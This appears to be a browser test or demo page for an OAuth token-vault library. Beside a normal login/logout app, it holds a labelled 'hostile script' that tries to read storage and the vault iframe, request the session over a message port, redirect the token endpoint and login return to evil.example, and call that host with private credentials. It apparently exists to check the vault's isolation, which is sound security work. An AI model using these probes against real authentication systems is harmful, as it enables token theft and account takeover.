// An application on a vault, and a hostile script that owns it.

import { vault } from '/pkg/vault.js'

const { origin: sandbox, vault: home } = await (await fetch('/sandbox.json')).json()
const address = `${home}/`
const { fetchPrivate, handleRedirect, logout, onSessionChange, restore, startLogin } = vault(address)

const $ = id => document.getElementById(id)
const say = what => {
  $('said').textContent = typeof what === 'string' ? what : JSON.stringify(what, null, 2)
}
const told = e => `${e.name}: ${e.message}\n${e.remedy ?? ''}`
const on = (id, act) => {
  $(id).onclick = () => act().then(say, e => say(told(e)))
}

$('vault').textContent = address
on('login', () => startLogin())
on('popup', () => startLogin({ display: 'popup' }))
on('logout', () => logout().then(() => 'logged out'))
on('me', async () => (await fetchPrivate(`${sandbox}/users/me`)).json())
on('delete', () => fetchPrivate(`${sandbox}/users/me`, { method: 'DELETE' }))
on('elsewhere', () => fetchPrivate('https://evil.example/'))
onSessionChange(({ type }) => {
  document.title = type
})

// The hostile script.

const port = () =>
  new Promise(resolve => {
    const frame = Object.assign(document.createElement('iframe'), { src: address, hidden: true })
    frame.onload = () => {
      const { port1, port2 } = new MessageChannel()
      const ask = message =>
        new Promise(done => {
          port1.onmessage = ({ data }) => data.id === 1 && done(data)
          port1.postMessage({ id: 1, ...message })
        })
      port1.onmessage = () => resolve(ask)
      frame.contentWindow.postMessage({ 'oauth-wasm': 'vault', version: 1 }, home, [port2])
    }
    document.body.append(frame)
  })
const call = { do: 'fetch', url: `${sandbox}/users/me`, method: 'GET', headers: [], body: null, cache: 'default', options: {} }

on('attack-read', async () => {
  const places = { ...localStorage, ...sessionStorage }
  let frame
  try {
    frame = document.querySelector('iframe').contentWindow.document.body.textContent
  } catch (e) {
    frame = `${e.name}: ${e.message}`
  }
  return { places, frame, port: await (await port())({ do: 'session' }) }
})
on('attack-endpoint', async () => (await port())({ ...call, tokenEndpoint: 'https://evil.example/token' }))
on('attack-return', async () =>
  (await port())({ do: 'login', returnTo: 'https://evil.example/', appState: null, prompt: null, popup: false }),
)
on('attack-call', async () => (await port())(call))

say(await ((await handleRedirect().catch(told)) ?? (await restore().catch(told))) ?? 'nobody is logged in')
